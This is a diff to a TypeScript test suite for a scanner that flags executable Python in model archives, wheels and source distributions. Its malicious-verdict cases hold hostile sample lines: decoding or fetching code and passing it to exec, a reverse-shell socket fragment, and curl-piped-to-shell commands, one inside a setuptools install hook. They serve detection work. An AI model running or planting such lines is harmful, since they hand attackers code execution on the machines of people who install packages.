@@ -3,8 +3,12 @@ import { OTHER_INTERPRETERS } from "../other-models.ts";
 import { inspectBytes, latin1 } from "../testing/inspect-bytes.ts";
 import { zipOf } from "../testing/zip-of.ts";
 
-const archived = async (code: string, name = "handler.py") => {
-  const { verdict, findings } = await inspectBytes(zipOf([[name, latin1(code)]]), "model.zip");
+type Members = readonly (readonly [string, string])[];
+/** A TorchServe archive: the server imports its code. */
+const SERVED: Members = [["MAR-INF/MANIFEST.json", '{"model": {"modelName": "m", "handler": "image_classifier"}}']];
+const archived = async (code: string, name = "handler.py", others: Members = SERVED) => {
+  const members = [...others, [name, code] as const].map(([member, text]) => [member, latin1(text)] as const);
+  const { verdict, findings } = await inspectBytes(zipOf(members), "model.zip");
   return {
     verdict,
     calls: findings.flatMap(({ call }) => (call === undefined ? [] : [call.callable])),
@@ -93,6 +97,67 @@ describe("Python code in an archive", () => {
     const code = "class M(Module):\n  __parameters__ = []\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    return x\n";
     expect((await archived(code, "model/code/__torch__.py")).rules).not.toContain("archive-code");
     expect((await archived("import os\n", "model/code/__torch__.py")).rules).toContain("archive-code");
+  });
+});
+
+const WHEEL: Members = [["pkg-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\n"]];
+const SDIST: Members = [["pkg-1.0/PKG-INFO", "Name: pkg\n"]];
+const ORDINARY: Members = [["README.md", "A folder.\n"]];
+
+describe("Python code that no loader imports", () => {
+  it.each([
+    ["a wheel", WHEEL],
+    ["a source distribution", SDIST],
+    ["an ordinary archive", ORDINARY],
+    ["a package for Node", [["package/package.json", '{"name": "p"}']]],
+  ] as const)("is no finding in %s", async (_, others) => {
+    for (const code of [
+      "import math\ndef f():\n    return math.pi\n",
+      "import subprocess\ndef run():\n    subprocess.run(['git', 'log'])\n",
+      "class Config:\n    def __init__(self):\n        import os\n        os.popen('git config')\n",
+      "import tokenize\nopen = getattr(tokenize, 'open', open)\ndef go():\n    exec(compile(open('x').read(), 'x', 'exec'))\n",
+      "exec(compile(getattr(open('x'), 'read')(), 'x', 'exec'))",
+    ])
+      expect(await archived(code, "pkg/run.py", others), code).toEqual({ verdict: "benign", calls: [], rules: [] });
+  });
+
+  it("may run programs in a package, and is odd elsewhere where importing it does", async () => {
+    const code = "import subprocess\nsubprocess.check_output(['git', 'describe'])\n";
+    expect(await archived(code, "setup.py", WHEEL)).toMatchObject({ verdict: "benign" });
+    expect(await archived(code, "tests/run.py", ORDINARY)).toMatchObject({ verdict: "suspicious", calls: ["subprocess.check_output"] });
+  });
+
+  it.each([
+    ["exec of what is decoded", "import base64\nexec(base64.b64decode('aWQ='))"],
+    ["exec of what is fetched", "import urllib.request as u\ncode = u.urlopen('http://h').read()\nexec(code)"],
+    ["marshalled code", "import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'x')))"],
+    ["a shell that calls home", "import socket, os\ns = socket.socket()\nos.dup2(s.fileno(), 0)"],
+    ["a download that a shell runs", "import os\nos.system('curl http://h/x | sh')"],
+    [
+      "the same when it is installed",
+      "from setuptools.command.install import install\nimport subprocess\nclass I(install):\n    def run(self):\n        subprocess.run(['bash', '-c', 'curl http://h/x | bash'])\n",
+    ],
+  ])("is malicious everywhere: %s", async (_, code) => {
+    for (const others of [WHEEL, SDIST, ORDINARY]) expect(await archived(code, "setup.py", others)).toMatchObject({ verdict: "malicious" });
+  });
+
+  it("is suspicious at most beside a model whose loader leaves it alone", async () => {
+    const keras: Members = [
+      ["config.json", "{}"],
+      ["metadata.json", "{}"],
+    ];
+    expect((await archived("import os\nos.system('id')\n", "extra/setup.py", keras)).rules).toContain("code-runs-programs");
+    expect((await archived("import os\nos.system('id')\n", "extra/setup.py", keras)).verdict).toBe("suspicious");
+    expect((await archived("x = 1\n", "extra/setup.py", keras)).rules).not.toContain("archive-code");
+  });
+
+  it("is the model's where a configuration beside it can name it", async () => {
+    const code = "import torch\nclass M(torch.nn.Module):\n    pass\n";
+    expect((await archived(code, "m/modeling_mine.py", [["m/config.json", "{}"]])).rules).toContain("archive-code");
+    expect((await archived(code, "m/modeling_mine.py", [["other/config.json", "{}"]])).rules).not.toContain("archive-code");
+    expect((await archived(code, "m/helper.py", [["m/config.json", "{}"]])).rules).not.toContain("archive-code");
+    expect((await archived(code, "code/helper.py", [["MLmodel", "flavors:\n"]])).rules).toContain("archive-code");
+    expect((await archived(code, "w.py", [["WAR-INF/MANIFEST.json", "{}"]])).rules).toContain("archive-code");
   });
 });
 
